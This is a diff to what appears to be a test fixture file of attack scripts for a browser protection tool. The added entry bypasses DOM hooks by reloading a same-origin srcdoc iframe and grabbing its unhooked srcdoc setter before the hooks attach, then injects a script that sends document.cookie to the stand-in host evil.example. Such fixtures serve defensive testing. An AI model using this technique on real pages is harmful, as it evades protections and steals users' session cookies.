@@ -1591,6 +1591,32 @@ export const MAIN_WORLD_SCRIPTS = {
   doc.body.appendChild(doc.adoptNode(frame));
 })();`,
 
+  /**
+   * The shop's own srcdoc frame (its HTML: srcdocWidgetPage) reloaded and its new realm polled for before the
+   * handover hooks it; that realm's srcdoc setter, unhooked, gives a frame of the helper's a srcdoc no hook sees,
+   * whose script sends the cookie.
+   */
+  'srcdoc-through-polled-shop-frame': `(() => {
+  const proxy = window[0];
+  const target = document.createElement('iframe');
+  target.style.display = 'none';
+  document.body.appendChild(target);
+  const start = () => {
+    const old = proxy.Function;
+    proxy.location.reload();
+    const poll = () => {
+      let fresh = false;
+      try { fresh = proxy.Function !== old; } catch {}
+      if (!fresh) return void setTimeout(poll, 0);
+      const set = proxy.Object.getOwnPropertyDescriptor(proxy.HTMLIFrameElement.prototype, 'srcdoc').set;
+      set.call(target, '<body><script>fetch("https://evil.example/srcdoc-through-polled-shop-frame?c=" + encodeURIComponent(document.cookie))<\\/script>');
+    };
+    poll();
+  };
+  if (document.readyState === 'complete') start();
+  else addEventListener('load', start);
+})();`,
+
   /** A srcdoc given to a sandboxed frame (allow-scripts allow-same-origin) already in the page. */
   'srcdoc-given-sandboxed': `(() => {
   const frame = document.createElement('iframe');
